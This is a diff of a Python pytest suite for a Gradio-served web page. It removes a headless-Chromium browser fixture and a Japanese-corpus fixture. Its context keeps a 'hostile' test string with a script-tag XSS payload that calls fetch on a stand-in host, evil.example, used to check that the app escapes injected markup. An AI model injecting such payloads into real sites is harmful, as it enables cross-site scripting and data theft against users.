@@ -14,9 +14,6 @@ import pytest
 from conftest import NGO_PAGE, ROOT, running_app
 from gradio_client import Client
 
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-         "--disable-component-update", "--no-first-run"]
 HOSTILE = """Hostile notes
 
 March 3, 2020   Payload one <script>window.__xss = 1; fetch("http://evil.example/s")</script> cocoa
@@ -40,17 +37,6 @@ def site(tmp_path_factory):
              "secret.txt": f"Secret file\n\nThe marker is {SECRET}.\n", MARKUP_NAME: ""}
     with running_app(work, files) as url:
         yield url, work
-
-
-@pytest.fixture(scope="module")
-def browser():
-    if not Path(CHROMIUM).exists():
-        pytest.skip(f"{CHROMIUM} missing: apt-get install chromium (.ci/run does)")
-    sync_api = pytest.importorskip("playwright.sync_api")
-    with sync_api.sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        yield b
-        b.close()
 
 
 @pytest.fixture(params=[(1400, 900)], ids=["desktop"])
@@ -346,14 +332,6 @@ def test_the_filters_and_timeline_follow_a_rebuild(page, site, browser):
     fresh.locator("#timeline figcaption").wait_for()
     fresh.wait_for_function("() => /3 March 2022/.test(document.querySelector('#timeline figcaption').innerText)")
     fresh.close()
-
-
-@pytest.fixture(scope="module")
-def site_ja(tmp_path_factory):
-    work = tmp_path_factory.mktemp("page-ja")
-    files = {f.name: f.read_text(encoding="utf-8") for f in (ROOT / "eval" / "corpus-ja").iterdir()}
-    with running_app(work, files) as url:
-        yield url, work
 
 
 @pytest.fixture(params=[(1400, 900), (390, 844)], ids=["desktop", "phone"])
